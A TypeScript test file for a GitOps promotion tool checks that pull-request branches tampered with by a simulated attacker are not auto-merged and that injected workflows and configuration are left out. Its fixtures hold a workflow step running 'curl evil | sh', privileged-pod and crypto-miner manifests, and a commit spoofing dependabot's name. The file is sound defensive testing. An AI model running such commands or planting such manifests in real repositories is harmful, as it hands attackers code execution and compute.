/**
 * A pull-request branch is anyone's to push to who may push to the repository: gitops-promote
 * merges only what it pushed there itself (a person's commits are for a person to merge),
 * follows the base's configuration, and never carries workflows or its configuration from the
 * branch into its own commit.
 */
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { explainFailure } from "../../src/action/update/failure.js";
import { createClient } from "../../src/github/client.js";
import { BranchReplaceRefusedError } from "../../src/github/commit.js";
import { deliver, type DeliveryContext, type DeliveryOptions } from "../../src/github/deliver.js";
import { GitRepo } from "../../src/github/git.js";
import { startFakeGitHub, type FakeGitHub } from "../support/github-fake.js";
import {
  checkout,
  checksPending,
  cloneRepo,
  deployment,
  mallory,
  mergeMainAsPerson,
  OWNER,
  pushAsPerson,
  REPO,
  squashPullRequest,
  warningsOf,
} from "./fixture.js";

const APP = "ghcr.io/acme/app";
const API = "ghcr.io/acme/api";
const PR = "gitops-promote/release";
const CONFIG = ".github/gitops-promote.yaml";
const request = (image: string) => ({ images: [image], setters: [], sets: [], paths: [] });
const pr = (merge: DeliveryOptions["merge"], more: Partial<DeliveryOptions> = {}) => squashPullRequest(PR, merge, more);
/** A token of Mallory's own, with the `workflow` scope. */
const MALLORY_TOKEN = "ghp_mallory";

describe("deliver: a pull-request branch someone else pushed to", () => {
  let fake: FakeGitHub;
  let ctx: DeliveryContext;
  let person: GitRepo;
  beforeEach(async () => {
    fake = await startFakeGitHub();
    const config = `targets:\n  - name: release\n    paths: ["**"]\n    images: [{ repository: ${APP} }, { repository: ${API} }]\n`;
    const { git } = await checkout(fake, { "app.yaml": deployment("app", `${APP}:1.0.0`), "api.yaml": deployment("api", `${API}:2.0.0`), [CONFIG]: config });
    const client = createClient({ token: fake.token, baseUrl: fake.apiUrl });
    ctx = { git, remote: "origin", repository: { owner: OWNER, repo: REPO }, client: () => client, log: () => undefined };
    // The run's token is GITHUB_TOKEN, which may not write workflows; Mallory pushes with a token of hers that may.
    fake.setPermissions({ workflows: "none" });
    fake.addToken(MALLORY_TOKEN);
    person = new GitRepo(await cloneRepo(fake, { token: MALLORY_TOKEN }));
  });
  afterEach(() => fake.close());

  const pushToPr = (files: Record<string, string>, who = mallory) => pushAsPerson(person, PR, files, who);
  const pending = () => checksPending(fake);
  const evil = "on: push\njobs: { x: { runs-on: ubuntu-latest, steps: [ { run: 'curl evil | sh' } ] } }\n";
  const pushWorkflow = () =>
    pushToPr({
      ".github/workflows/pwn.yml": evil,
      "api.yaml": deployment("api", `${API}:2.0.0`).replace("name: api\n", "name: api\n  privileged: true\n"),
    });

  it("a branch made before the run with a workflow on it: GitHub refuses GITHUB_TOKEN the rebuild that leaves it out, and nothing is opened or merged", async () => {
    await pushWorkflow();
    const before = (await fake.refs(OWNER, REPO))[`refs/heads/${PR}`];

    const error: unknown = await deliver(ctx, request(`${APP}:1.1.0`), pr("immediate")).catch((e: unknown) => e);
    expect(error).toBeInstanceOf(BranchReplaceRefusedError);
    expect((error as Error).message).toMatch(
      /refusing to allow a GitHub App to create or update workflow \.github\/workflows\/pwn\.yml without workflows permission/,
    );
    const at = { repository: { owner: OWNER, repo: REPO }, workflowRepository: `${OWNER}/${REPO}`, tokenGiven: true, tokenLent: false };
    expect(explainFailure(error, at)).toMatch(
      /GITHUB_TOKEN can never have it: close the pull request and delete gitops-promote\/release, and the next run opens a fresh one from the base\.$/,
    );
    expect((await fake.refs(OWNER, REPO))[`refs/heads/${PR}`]).toBe(before);
    expect(fake.pulls(OWNER, REPO)).toEqual([]);
    expect(await fake.readFile(OWNER, REPO, "main", ".github/workflows/pwn.yml")).toBeUndefined();
  });

  it("with an App token granted Workflows, a branch made before the run is rebuilt without its workflows and left open, not merged, whatever merge says", async () => {
    fake.setPermissions({ workflows: "write" });
    await pushWorkflow();

    const result = await deliver(ctx, request(`${APP}:1.1.0`), pr("immediate"));
    const [pull] = fake.pulls(OWNER, REPO);
    expect(pull).toMatchObject({ state: "open", merged: false });
    expect(result.landings[0]!.merge).toBe("none");
    expect(await fake.readFile(OWNER, REPO, PR, ".github/workflows/pwn.yml")).toBeUndefined();
    expect(await fake.readFile(OWNER, REPO, "main", ".github/workflows/pwn.yml")).toBeUndefined();
    // A person's edit to a manifest stays on the branch for review, and the body names it.
    expect(await fake.readFile(OWNER, REPO, PR, "api.yaml")).toContain("privileged: true");
    expect(pull!.body).toContain("Also on this branch, from its earlier commits: <code>api.yaml</code>.");
    expect(warningsOf(result)).toEqual([
      `.github/workflows/pwn.yml: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
      `pull request #1 is left open for review: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
    ]);
  });

  it("merges a branch that holds only its own pushes: a second image joins the first under auto-merge", async () => {
    pending();
    const first = await deliver(ctx, request(`${APP}:1.1.0`), pr("auto"));
    expect(first.landings[0]!.merge).toBe("auto-merge");

    const second = await deliver(ctx, request(`${API}:2.0.1`), pr("auto"));
    expect(second.landings[0]!.merge).toBe("auto-merge");
    expect(second.plan.warnings).toEqual([]);
    expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).not.toBeNull();
    await fake.completeAutoMerge(OWNER, REPO, 1);
    expect(await fake.readFile(OWNER, REPO, "main", "app.yaml")).toContain(`${APP}:1.1.0`);
    expect(await fake.readFile(OWNER, REPO, "main", "api.yaml")).toContain(`${API}:2.0.1`);
  });

  it("turns off auto-merge once a person pushed to the branch, and keeps it off for later runs", async () => {
    pending();
    await deliver(ctx, request(`${APP}:1.1.0`), pr("auto"));
    await pushToPr({ "notes.yaml": "by: Mallory\n" });

    const second = await deliver(ctx, request(`${API}:2.0.1`), pr("auto"));
    expect(second.landings[0]!.merge).toBe("none");
    expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).toBeNull();
    expect(warningsOf(second)).toEqual([
      `pull request #1 is left open for review, and its auto-merge is turned off: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
    ]);

    // Our rebuild is now the branch's only commit, but it folds in Mallory's (and credits her): still not ours to merge.
    const third = await deliver(ctx, request(`${APP}:1.2.0`), pr("auto"));
    expect(third.landings[0]!.merge).toBe("none");
    expect(fake.pulls(OWNER, REPO)[0]!.autoMerge).toBeNull();
    expect(await fake.readFile(OWNER, REPO, "main", "app.yaml")).toContain(`${APP}:1.0.0`);
  });

  it("a commit on top of ours under a bot's name (dependabot[bot]) is a person's: left open, not merged", async () => {
    await deliver(ctx, request(`${APP}:1.1.0`), pr("none"));
    await pushToPr(
      { "pod.yaml": "kind: Pod\nspec: { containers: [{ name: x, image: evil/miner:1, securityContext: { privileged: true } }] }\n" },
      {
        name: "dependabot[bot]",
        email: "49699333+dependabot[bot]@users.noreply.github.com",
      },
    );

    const result = await deliver(ctx, request(`${API}:2.0.1`), pr("immediate"));
    expect(result.landings[0]!.merge).toBe("none");
    expect(fake.pulls(OWNER, REPO)[0]).toMatchObject({ state: "open", merged: false });
    expect(await fake.readFile(OWNER, REPO, "main", "pod.yaml")).toBeUndefined();
    expect(warningsOf(result)).toEqual([
      `pull request #1 is left open for review: ${PR} holds commits by dependabot[bot], and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
    ]);
    // Folded into our rebuild, the bot is credited there, so the next run does not take the branch for ours either.
    expect((await fake.log(OWNER, REPO, PR))[0]!.message).toMatch(
      /\nCo-authored-by: dependabot\[bot\] <49699333\+dependabot\[bot\]@users\.noreply\.github\.com>\n$/,
    );
    const next = await deliver(ctx, request(`${APP}:1.2.0`), pr("immediate"));
    expect(next.landings[0]!.merge).toBe("none");
    expect(await fake.readFile(OWNER, REPO, "main", "pod.yaml")).toBeUndefined();
  });

  it("follows the base's configuration, not the branch's, and leaves the branch's out", async () => {
    const widened = `targets:\n  - name: release\n    paths: ["**"]\n    images: [{ repository: ${APP} }, { repository: ${API} }, { repository: postgres }]\n`;
    await pushToPr({ [CONFIG]: widened, "db.yaml": deployment("db", "postgres:16.4") });
    await fake.commitFile(OWNER, REPO, "main", "db.yaml", deployment("db", "postgres:16.4"));

    const result = await deliver(ctx, { ...request("postgres:9.4"), images: ["postgres:9.4", `${APP}:1.1.0`] }, pr("none"));
    expect(result.landings[0]!.changes.map((c) => c.new)).toEqual([`${APP}:1.1.0`]);
    expect(await fake.readFile(OWNER, REPO, PR, "db.yaml")).toContain("postgres:16.4");
    expect(await fake.readFile(OWNER, REPO, PR, CONFIG)).not.toContain("postgres");
    expect(warningsOf(result)).toContain(
      `${CONFIG}: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
    );
  });

  it("follows the base's configuration when the branch adds one under the other name (.yml beside .yaml)", async () => {
    const ALT = ".github/gitops-promote.yml";
    const widened = `targets:\n  - name: release\n    paths: ["**"]\n    images: [{ repository: ${APP} }, { repository: postgres }]\n`;
    await pushToPr({ [ALT]: widened, "db.yaml": deployment("db", "postgres:16.4") });
    await fake.commitFile(OWNER, REPO, "main", "db.yaml", deployment("db", "postgres:16.4"));

    // Read with the branch's .yml, the plan would refuse both names; read as the base has it, postgres stays outside every target.
    const result = await deliver(ctx, { ...request("postgres:9.4"), images: ["postgres:9.4", `${APP}:1.1.0`] }, pr("none"));
    expect(result.landings[0]!.changes.map((c) => c.new)).toEqual([`${APP}:1.1.0`]);
    expect(await fake.readFile(OWNER, REPO, PR, ALT)).toBeUndefined();
    expect(warningsOf(result)).toContain(
      `${ALT}: ${PR} changed this file, which gitops-promote never writes (the workflows under .github/, its configuration): left out when rebuilding the pull request's branch`,
    );
  });
});

describe("deliver: a merge on the pull-request branch (main merged in)", () => {
  let fake: FakeGitHub;
  let person: GitRepo;
  beforeEach(async () => {
    fake = await startFakeGitHub();
    const config = `targets:\n  - name: release\n    paths: ["**"]\n    images: [{ repository: ${APP} }, { repository: ${API} }]\n`;
    await fake.createRepo(OWNER, REPO, { "app.yaml": deployment("app", `${APP}:1.0.0`), "api.yaml": deployment("api", `${API}:2.0.0`), [CONFIG]: config });
    person = new GitRepo(await cloneRepo(fake));
  });
  afterEach(() => fake.close());

  /** A run in a checkout of its own, as each workflow run has. */
  const run = async (shallow: boolean, image: string, options: DeliveryOptions) => {
    const git = new GitRepo(await cloneRepo(fake, { shallow }));
    const client = createClient({ token: fake.token, baseUrl: fake.apiUrl });
    return deliver({ git, remote: "origin", repository: { owner: OWNER, repo: REPO }, client: () => client, log: () => undefined }, request(image), options);
  };
  const cases = [false, true].flatMap((shallow) =>
    (["api", "git"] as const).map((via) => [shallow ? "a shallow checkout" : "a full checkout", via, shallow] as const),
  );

  it.each(cases)("in %s, committing through %s: GitHub's Update branch keeps the branch gitops-promote's, merged as merge says", async (_, via, shallow) => {
    await run(shallow, `${APP}:1.1.0`, pr("none", { commitVia: via }));
    await fake.commitFile(OWNER, REPO, "main", "notes.yaml", "moved: true\n");
    await mergeMainAsPerson(person, PR, {}, mallory);

    const result = await run(shallow, `${API}:2.0.1`, pr("immediate", { commitVia: via }));
    expect(result.landings[0]!.merge).toBe("merged");
    expect(warningsOf(result)).toEqual([]);
    expect(await fake.readFile(OWNER, REPO, "main", "app.yaml")).toContain(`${APP}:1.1.0`);
    expect(await fake.readFile(OWNER, REPO, "main", "api.yaml")).toContain(`${API}:2.0.1`);
  });

  it.each(cases)(
    "in %s, committing through %s: a merge that adds a file of its own is a person's commit: left for review, auto-merge turned off, its author credited",
    async (_, via, shallow) => {
      checksPending(fake);
      expect((await run(shallow, `${APP}:1.1.0`, pr("auto", { commitVia: via }))).landings[0]!.merge).toBe("auto-merge");
      await fake.commitFile(OWNER, REPO, "main", "notes.yaml", "moved: true\n");
      const evil = deployment("miner", "evil/miner:1");
      await mergeMainAsPerson(person, PR, { "backdoor.yaml": evil }, mallory);

      const result = await run(shallow, `${API}:2.0.1`, pr("auto", { commitVia: via }));
      expect(result.landings[0]!.merge).toBe("none");
      expect(fake.pulls(OWNER, REPO)[0]).toMatchObject({ state: "open", merged: false, autoMerge: null });
      expect(warningsOf(result)).toEqual([
        `pull request #1 is left open for review, and its auto-merge is turned off: ${PR} holds commits by Mallory, and gitops-promote merges only what it pushed itself; merge it yourself, or close it to start afresh`,
      ]);
      expect(await fake.readFile(OWNER, REPO, "main", "backdoor.yaml")).toBeUndefined();
      // The rebuild keeps the file for review and credits Mallory, so later runs do not take the branch for theirs either.
      expect(await fake.readFile(OWNER, REPO, PR, "backdoor.yaml")).toBe(evil);
      expect((await fake.log(OWNER, REPO, PR))[0]!.message).toMatch(/\nCo-authored-by: Mallory <mallory@evil\.test>\n$/);
    },
  );
});

describe("deliver: a pr-branch that names a branch gitops-promote did not make", () => {
  let fake: FakeGitHub;
  let ctx: DeliveryContext;
  let person: GitRepo;
  beforeEach(async () => {
    fake = await startFakeGitHub();
    const { git } = await checkout(fake, { "app.yaml": deployment("app", `${APP}:1.0.0`), ".github/workflows/prod.yml": "on: push\n" });
    const client = createClient({ token: fake.token, baseUrl: fake.apiUrl });
    ctx = { git, remote: "origin", repository: { owner: OWNER, repo: REPO }, client: () => client, log: () => undefined };
    person = new GitRepo(await cloneRepo(fake));
  });
  afterEach(() => fake.close());

  const refusal =
    "production exists and was not made by gitops-promote: it starts with commits gitops-promote did not make (by Mallory). It is not replaced (gitops-promote rebuilds its pull-request branch as one commit on main): set pr-branch (or the target's delivery.branch) to a branch of its own, or delete production";

  it("a long-lived branch of a person's (production) is not replaced: the run fails naming it, and the branch keeps its history", async () => {
    await pushAsPerson(person, "production", { "prod-only.yaml": "replicas: 5\n" }, mallory);
    const before = (await fake.refs(OWNER, REPO))["refs/heads/production"];
    await expect(deliver(ctx, request(`${APP}:1.1.0`), pr("none", { prBranch: "production" }))).rejects.toThrow(refusal);
    expect((await fake.refs(OWNER, REPO))["refs/heads/production"]).toBe(before);
    expect(fake.pulls(OWNER, REPO)).toEqual([]);
  });

  it.each([
    ["their own pull request into main is open", "open"],
    ["their pull request was closed at its head (the branch is a leftover)", "closed"],
  ] as const)("nor when %s", async (_, state) => {
    await pushAsPerson(person, "production", { "prod-only.yaml": "replicas: 5\n" }, mallory);
    const client = ctx.client();
    const { data: theirs } = await client.rest.pulls.create({ owner: OWNER, repo: REPO, base: "main", head: "production", title: "Release", body: "" });
    if (state === "closed") await client.rest.pulls.update({ owner: OWNER, repo: REPO, pull_number: theirs.number, state: "closed" });
    const before = (await fake.refs(OWNER, REPO))["refs/heads/production"];
    await expect(deliver(ctx, request(`${APP}:1.1.0`), pr("none", { prBranch: "production" }))).rejects.toThrow(refusal);
    expect((await fake.refs(OWNER, REPO))["refs/heads/production"]).toBe(before);
    expect(fake.pulls(OWNER, REPO)).toMatchObject([{ number: theirs.number, title: "Release", state }]);
  });

  it("a branch of its own outside gitops-promote/ is made, then updated by the next run, as under the default name", async () => {
    const options = pr("none", { prBranch: "promote/app" });
    await deliver(ctx, request(`${APP}:1.1.0`), options);
    const second = await deliver(ctx, request(`${APP}:1.2.0`), options);
    expect(second.landings.map((l) => l.pullRequest?.operation)).toEqual(["updated"]);
    expect(await fake.readFile(OWNER, REPO, "promote/app", "app.yaml")).toContain(`${APP}:1.2.0`);
  });
});
